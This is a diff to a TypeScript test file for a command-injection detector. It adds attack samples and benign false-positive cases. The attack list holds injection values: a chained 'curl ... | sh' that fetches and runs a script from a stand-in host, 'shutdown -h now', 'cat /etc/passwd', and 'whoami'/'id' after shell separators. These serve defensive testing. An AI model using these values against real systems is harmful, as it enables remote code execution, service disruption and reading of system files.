@@ -12,6 +12,8 @@ const scan = (key: string, value: string, opts = AUTO) =>
   commandInjectionDetector.scan(value, at(key), opts);
 
 const ATTACKS: ReadonlyArray<[key: string, value: string, kind: string]> = [
+  ["text", "hello\nshutdown -h now", "chained_command"],
+  ["message", "thanks!\ncurl -s https://x.example/i.sh | sh", "chained_command"],
   ["host", "example.com; cat /etc/passwd", "chained_command"],
   ["host", "8.8.8.8 && whoami", "chained_command"],
   ["hostname", "localhost|id", "chained_command"],
@@ -62,6 +64,9 @@ const ATTACKS: ReadonlyArray<[key: string, value: string, kind: string]> = [
 ];
 
 const BENIGN: ReadonlyArray<[key: string, value: string]> = [
+  // Prose whose line happens to start with a command word (from real docs).
+  ["text", "collected during the latter part of environment\nshutdown.\n\nChange History:"],
+  ["text", "On Windows:\nPowerShell uses different syntax to set environment variables"],
   ["query", "a && b"],
   ["message", "Tom & Jerry | best of"],
   ["text", "| col | val |\n|---|---|\n| id | b |"],
